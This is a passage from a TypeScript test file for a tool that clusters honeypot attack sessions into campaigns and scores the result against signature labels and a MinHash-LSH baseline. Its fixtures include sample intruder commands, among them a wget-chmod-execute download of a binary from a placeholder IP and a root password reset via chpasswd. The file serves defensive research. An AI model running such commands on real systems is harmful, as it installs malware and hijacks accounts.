      expect(fast.agreeingPairs).toBe(slow.a)
      expect(fast.precision).toBeCloseTo(slow.precision, 12)
      expect(fast.recall).toBeCloseTo(slow.recall, 12)
      expect(fast.f1).toBeCloseTo(slow.f1, 12)
      expect(fast.ari).toBeCloseTo(slow.ari, 9)
    }
  })

  // Labelled: A ×10 (8 in P, 1 in Q, 1 unclustered), B ×10 (all in Q), C ×2 (unclustered).
  // P also holds 2 unlabelled sessions and 1 conflict; Q holds no unlabelled session.
  const labels = new Map<string, { family: string; variant: string }>()
  for (let i = 0; i < 10; i++) labels.set(`a${i}`, { family: "A", variant: i < 5 ? "a1" : "a2" })
  for (let i = 0; i < 10; i++) labels.set(`b${i}`, { family: "B", variant: "b" })
  labels.set("c0", { family: "C", variant: "c" })
  labels.set("c1", { family: "C", variant: "c" })
  const campaigns = [
    { id: "P", level: "family", sessions: ["a0", "a1", "a2", "a3", "a4", "a5", "a6", "a7", "u0", "u1", "x0"] },
    { id: "P.v1", level: "variant", parent_id: "P", sessions: ["a0", "a1", "a2", "a3", "a4"] },
    { id: "P.v1.w", level: "wave", parent_id: "P.v1", sessions: ["a0", "a1"] },
    { id: "Q", level: "family", sessions: ["a8", ...Array.from({ length: 10 }, (_, i) => `b${i}`)] }
  ]
  const prediction = predictionFromCampaigns(campaigns)
  const e = evalEvaluate(labels, new Set(["x0"]), prediction, 1000)

  test("prediction: variant campaigns refine families, waves are ignored", () => {
    expect(prediction.family.get("a0")).toBe("P")
    expect(prediction.variant.get("a0")).toBe("P.v1")
    expect(prediction.variant.get("a5")).toBe("P")
    expect(prediction.family.has("a9")).toBe(false)
    expect(prediction.familyCount).toBe(2)
    expect(prediction.variantCount).toBe(1)
  })

  test("per-family recovery: share, purity, judged and recovered", () => {
    const r = new Map(e.recovery.map((x) => [x.family, x]))
    expect(r.get("A")).toMatchObject({ sessions: 10, mainPredicted: "P", share: 0.8, purity: 1, judged: true, recovered: true })
    expect(r.get("B")).toMatchObject({ sessions: 10, mainPredicted: "Q", share: 1, judged: true, recovered: true })
    expect(r.get("B")!.purity).toBeCloseTo(10 / 11, 12) // ≥ 0.90
    expect(r.get("C")).toMatchObject({ sessions: 2, mainPredicted: null, share: 0.5, purity: 1, judged: false, recovered: false })
    expect(e.judgedFamilies).toBe(2)
    expect(e.recoveredFamilies).toBe(2)
    // One more A session in Q: A keeps share 0.8 but B's purity drops to 10/12 < 0.90.
    const moved = predictionFromCampaigns(campaigns.map((c) => (c.id === "Q" ? { ...c, sessions: [...c.sessions, "a9"] } : c)))
    const e2 = new Map(evalEvaluate(labels, new Set(["x0"]), moved, 1000).recovery.map((x) => [x.family, x]))
    expect(e2.get("A")).toMatchObject({ share: 0.8, purity: 1, recovered: true })
    expect(e2.get("B")).toMatchObject({ share: 1, recovered: false })
    expect(e2.get("B")!.purity).toBeCloseTo(10 / 12, 12)
    expect(e.macro.share).toBeCloseTo((0.8 + 1 + 0.5) / 3, 12)
    expect(e.macro.judgedPurity).toBeCloseTo((1 + 10 / 11) / 2, 12)
  })

  test("merged with unlabelled: P's labelled sessions ride with 2 unlabelled ones; conflicts are not unlabelled", () => {
    expect(e.scoredSessions).toBe(22)
    expect(e.mergedWithUnlabelled).toBe(8)
    expect(e.mergedWithUnlabelledShare).toBeCloseTo(8 / 22, 12)
    expect(e.unlabelledRidingAlong).toBe(2)
    expect(e.familiesPer1000Sessions).toBe(2)
    expect(e.campaignsPer1000Sessions).toBe(4) // two families, a variant and a wave
  })

  test("family and variant pairwise scores", () => {
    // Family truth pairs: C(10,2)·2 + 1 = 91; predicted pairs among labelled: C(8,2) + C(11,2) = 83;
    // agreeing: C(8,2) + C(10,2) = 73.
    expect(e.familyScores).toMatchObject({ truePairs: 91, predictedPairs: 83, agreeingPairs: 73 })
    expect(e.familyScores.precision).toBeCloseTo(73 / 83, 12)
    expect(e.familyScores.recall).toBeCloseTo(73 / 91, 12)
    // Variant truth: a1 ×5, a2 ×5, b ×10, c ×2 → 10 + 10 + 45 + 1 = 66; predicted: P.v1 ×5, P ×3, Q ×11 → 10 + 3 + 55 = 68;
    // agreeing: a1∩P.v1 10 + a2∩P 3 + b∩Q 45 = 58.
    expect(e.variantScores).toMatchObject({ truePairs: 66, predictedPairs: 68, agreeingPairs: 58 })
  })
})

describe("MinHash-LSH peer (eval/peers/minhash-lsh.ts)", () => {
  test("LSH bands for Jaccard 0.55 with 128 permutations", () => {
    const { bands, rows } = optimalBands(0.55, 128)
    expect(bands * rows).toBeLessThanOrEqual(128)
    // The collision probability crosses one half near the threshold.
    const p = (s: number) => 1 - (1 - s ** rows) ** bands
    expect(p(0.4)).toBeLessThan(0.5)
    expect(p(0.7)).toBeGreaterThan(0.5)
  })

  test("identical and near-identical command sessions cluster; unrelated ones and command-less ones do not", () => {
    const base = ["uname -a", "cat /proc/cpuinfo | grep name | wc -l", "free -m | grep Mem", "crontab -l", "w", "top", "which ls", "ls -lh $(which ls)"]
    const sessions = [
      { id: "a", commands: base },
      { id: "b", commands: base },
      { id: "c", commands: [...base, "echo 'root:Xq9vB2'|chpasswd|bash"] },
      { id: "d", commands: ["wget http://192.0.2.7/x86; chmod 777 x86; ./x86 scan"] },
      { id: "e", commands: ["enable", "system", "shell", "sh", "cat /proc/mounts; /bin/busybox ABCDE"] },
      { id: "f", commands: [] }
    ]
    const r = minhashLsh(sessions)
    expect(r.keys.get("a")).not.toBeNull()
    expect(r.keys.get("b")).toBe(r.keys.get("a")!)
    expect(r.keys.get("c")).toBe(r.keys.get("a")!)
    expect(r.keys.get("d")).not.toBe(r.keys.get("a")!)
    expect(r.keys.get("e")).not.toBe(r.keys.get("a")!)
    expect(r.keys.get("e")).not.toBe(r.keys.get("d")!)
    expect(r.keys.get("f")).toBeNull()
    expect(r.withCommands).toBe(5)
    // Deterministic: the same input gives the same keys.
    expect(minhashLsh(sessions).keys).toEqual(r.keys)
  })

  test("MinHash estimates Jaccard similarity", () => {
    const tokens = (from: number, to: number) => new Set(Array.from({ length: to - from }, (_, i) => `t${from + i}`))
    const a = minhash(tokens(0, 200))!
    const b = minhash(tokens(100, 300))! // Jaccard 100/300
    let same = 0
    for (let i = 0; i < a.length; i++) if (a[i] === b[i]) same++
    expect(Math.abs(same / a.length - 1 / 3)).toBeLessThan(0.12)
    expect(minhash(new Set())).toBeNull()
  })
})

// ---------------------------------------------------------------------------------------
// Real corpora (read in place; skipped when absent). Nothing from them is stored.

const CORPORA = resolve(import.meta.dir, "../../../shared/corpora")
const haveCorpora = existsSync(join(CORPORA, "radec73-2024-04.cowrie.json.gz")) && existsSync(join(CORPORA, "alvarogar-2022-07.cowrie.json.gz"))
if (!haveCorpora) console.warn(`[evaluation] ${CORPORA} is missing: the corpus tests are SKIPPED.`)

describe.skipIf(!haveCorpora)("signature labels on the public corpora", () => {
  test("radec73: every session planting the cited mdrfckr key is labelled dota-mdrfckr or a reported conflict", () => {
    const file = join(CORPORA, "radec73-2024-04.cowrie.json.gz")
    const log = parseCowrie(readFileSync(file))
    const key = sigOf("dota-mdrfckr-key").value
    const planters = [...log.sessions].filter(([, s]) => s.commands.some((c) => c.includes(key))).map(([id]) => id)
    expect(planters.length).toBeGreaterThan(100)
    const l = labelSessions(log, SIGS)
    for (const id of planters) {
      if (l.conflicts.has(id)) expect(l.conflicts.get(id)).toContain("dota-mdrfckr")
      else expect(l.labels.get(id)?.family).toBe("dota-mdrfckr")
    }
    // Sessions that only tried a dictionary credential and ran nothing are never labelled.
    const rootAdminOnly = [...log.sessions].filter(([, s]) => s.commands.length === 0 && s.credentials.length > 0 && s.credentials.every(([u, p]) => u === "root" && p === "admin"))
    expect(rootAdminOnly.length).toBeGreaterThan(0)
    for (const [id] of rootAdminOnly) expect(l.labels.has(id)).toBe(false)
  })

  test("alvarogar: the MinHash peer scored on the labels, and the labels file read by the shipped eval", async () => {
    const file = join(CORPORA, "alvarogar-2022-07.cowrie.json.gz")
    const l = labelFile(file, SIGS)
    expect(l.stats.labelledSessions).toBeGreaterThan(0)
    const commands = await readCommands(file)
    expect(commands.sessionCount).toBe(l.stats.sessions)
    expect(commands.sessions.length).toBe([...parseCowrie(readFileSync(file)).sessions.values()].filter((s) => s.commands.length > 0).length)
    const peer = minhashLsh(commands.sessions)
    const groups = new Map<string, Array<string>>()
    for (const [s, k] of peer.keys) if (k !== null) groups.set(k, [...(groups.get(k) ?? []), s])
    const prediction = predictionFromCampaigns([...groups].map(([id, sessions]) => ({ id, level: "family", sessions })))
    const e = evalEvaluate(l.labels, new Set(l.conflicts.keys()), prediction, l.stats.sessions)
    expect(e.scoredSessions).toBe(l.stats.labelledSessions)
    expect(e.familyScores.f1).toBeGreaterThanOrEqual(0)
    expect(e.familyScores.f1).toBeLessThanOrEqual(1)
    expect(parseLabelsTsv(formatSignatureLabels(l.labels)).sessions.size).toBe(l.stats.labelledSessions)
  })
})
